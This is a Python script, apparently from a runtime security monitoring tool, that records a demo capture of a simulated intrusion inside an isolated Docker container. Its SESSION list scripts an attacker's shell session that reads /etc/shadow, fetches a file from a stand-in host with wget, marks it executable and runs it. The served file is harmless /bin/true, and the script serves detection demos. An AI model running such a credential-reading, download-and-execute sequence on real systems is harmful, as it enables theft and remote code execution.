#!/usr/bin/env python3
"""Records the capture that `gyr demo` replays (src/playback/demo.scap): a real container with a web server in it, an
interactive shell in the container, a look at /etc/shadow, a download, and the start of what was downloaded.

    sudo tools/demo/record.py [FILE]        # without FILE: src/playback/demo.scap

Needs root, Docker's programs and a static busybox; the agent is that of GYR_BINARY, else of build/. Everything happens in
namespaces of its own, with a host name, users, network and folders made for it, and of the machine's processes only
Docker's are kept, so that the file tells nothing of the machine it was made on. tests/e2e/demo.py runs this, too."""

import glob
import os
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True
TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(TOP, "tests", "support"))
import live  # noqa: E402

HOST = "shop-1"
ADDRESS = "203.0.113.7"  # a network for documentation, here on the container's loopback interface
PLACES = ["/run", "/var/lib/docker", "/var/lib/containerd", "/srv"]
SESSION = ["cat /etc/shadow", "wget -q -O /tmp/.x http://%s/x" % ADDRESS, "chmod +x /tmp/.x", "/tmp/.x"]
CLEAN = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root"}
USERS = {"passwd": "root:x:0:0:root:/root:/bin/bash\n", "group": "root:x:0:\n"}


def mount_places(folder):
    """Empty folders where Docker keeps its files, and other users."""
    for place in PLACES:
        os.makedirs(place, exist_ok=True)
        live.check(["mount", "-t", "tmpfs", "tmpfs", place])
    for name, text in USERS.items():
        path = os.path.join(folder, name)
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)
        live.check(["mount", "--bind", path, "/etc/" + name])


def image(folder):
    """A root file system with a web server, as a tar file."""
    root = folder + "/root"
    for name in ("bin", "etc", "tmp", "proc", "dev", "sys", "root", "www"):
        os.makedirs(os.path.join(root, name))
    os.chmod(root + "/tmp", 0o1777)
    live.check(["cp", "/bin/busybox", root + "/bin/busybox"])
    for name in ("httpd", "cat", "wget", "chmod"):
        os.link(root + "/bin/busybox", "%s/bin/%s" % (root, name))
    live.check(["cp", "/bin/dash", root + "/bin/sh"])
    for line in live.check(["ldd", "/bin/dash"]).split():
        if line.startswith("/"):
            os.makedirs(root + os.path.dirname(line), exist_ok=True)
            live.check(["cp", "-L", line, root + line])
    for name, text in (("passwd", USERS["passwd"]), ("group", USERS["group"]), ("shadow", "root:*:19700:0:99999:7:::\n")):
        with open("%s/etc/%s" % (root, name), "w", encoding="utf-8") as file:
            file.write(text)
    os.chmod(root + "/etc/shadow", 0o640)
    with open(root + "/www/index.html", "w", encoding="utf-8") as file:
        file.write("shop\n")
    live.check(["tar", "-C", root, "-cf", folder + "/image.tar", "."])
    return folder + "/image.tar"


def wait_until(command, process):
    deadline = live.time.monotonic() + live.PATIENCE
    while subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False).returncode != 0:
        if process.poll() is not None or live.time.monotonic() > deadline:
            sys.exit("%s does not answer" % " ".join(command))
        live.time.sleep(0.05)


def leave_cgroups():
    """Into the root of each hierarchy: the names of others are those of the machine."""
    for path in glob.glob("/sys/fs/cgroup/cgroup.procs") + glob.glob("/sys/fs/cgroup/*/cgroup.procs"):
        with open(path, "w", encoding="ascii") as file:
            file.write("0")


def serve(folder, network):
    """A web server with the program to download, in the container's network."""
    inside = ["nsenter", "--net=" + network]
    live.check([*inside, "busybox", "ip", "address", "add", ADDRESS + "/24", "dev", "lo"])
    server = subprocess.Popen([*inside, sys.executable, "-m", "http.server", "--bind", ADDRESS, "-d", folder, "80"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_until([*inside, "busybox", "wget", "-q", "-O", "/dev/null", "http://%s/x" % ADDRESS], server)
    return server


def break_in():
    """The session of somebody who types."""
    terminal = live.Terminal(["docker", "exec", "-it", "web", "sh"], env=CLEAN)
    for prompts, line in enumerate([*SESSION, "exit"], 1):
        if not terminal.read_until(lambda text, n=prompts: text.count(b"# ") >= n):
            sys.exit("the shell ended: %r" % terminal.written)
        terminal.type(line.encode() + b"\n")
    if terminal.end() != 0:
        sys.exit("the session failed: %r" % terminal.written)


def record(target):
    folder = tempfile.mkdtemp(prefix="demo-", dir="/srv")
    everything = folder + "/all.scap"
    served = folder + "/served"
    os.mkdir(served)
    live.check(["cp", "/bin/true", served + "/x"])
    tar = image(folder)
    # A process namespace of its own: whatever Docker starts ends with it.
    docker = subprocess.Popen(["unshare", "--pid", "--fork", "--kill-child", "--mount-proc", "dockerd", "--iptables=false",
                               "--bridge=none"], env=CLEAN, cwd="/", stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL, preexec_fn=leave_cgroups)
    server = None
    try:
        wait_until(["docker", "version"], docker)
        live.check(["docker", "import", tar, "shop/web:1.4"])
        live.check(["docker", "run", "-d", "--network", "none", "--name", "web", "shop/web:1.4", "httpd", "-f", "-p", "8080",
                    "-h", "/www"])
        network = live.check(["docker", "inspect", "-f", "{{.NetworkSettings.SandboxKey}}", "web"]).replace("/var/run/", "/run/")
        server = serve(served, "/proc/%s/root%s" % (live.check(["pgrep", "-P", str(docker.pid)]), network))
        gyr = subprocess.Popen([live.find_binary(), "record", "-w", everything, "container.name = web"],
                               stderr=subprocess.PIPE, text=True)
        for line in gyr.stderr:
            if line.startswith("gyr: armed"):
                break
        else:
            sys.exit("gyr record does not start")
        break_in()
        gyr.send_signal(live.signal.SIGINT)
        gyr.communicate(timeout=live.PATIENCE)
        # What runc does on its way into the container is no part of the story.
        live.check([live.find_binary(), "events", "--capture", everything, "--ancestors", "2", "-w", target,
                    "container.name = web and not proc.name startswith runc"])
    finally:
        for process in (server, docker):
            if process is not None:
                process.kill()  # with dockerd all in its namespace goes
                process.wait()


def main(arguments):
    target = os.path.abspath(arguments[0]) if arguments else os.path.join(TOP, "src", "playback", "demo.scap")
    live.require_root()
    if os.environ.get("GYR_DEMO_INSIDE") != "1":
        os.environ["GYR_DEMO_INSIDE"] = "1"
        os.execvp("unshare", ["unshare", "--mount", "--uts", "--net", "--propagation", "private", sys.executable,
                              os.path.abspath(__file__), target])
    live.check(["busybox", "hostname", HOST])
    live.check(["busybox", "ip", "link", "set", "lo", "up"])
    folder = tempfile.mkdtemp(prefix="gyr-demo-")
    try:
        mount_places(folder)
        record(target)
    finally:
        live.check(["umount", "/etc/passwd", "/etc/group"])
        live.check(["rm", "-r", folder])
    print("%d bytes in %s" % (os.path.getsize(target), target))


if __name__ == "__main__":
    main(sys.argv[1:])
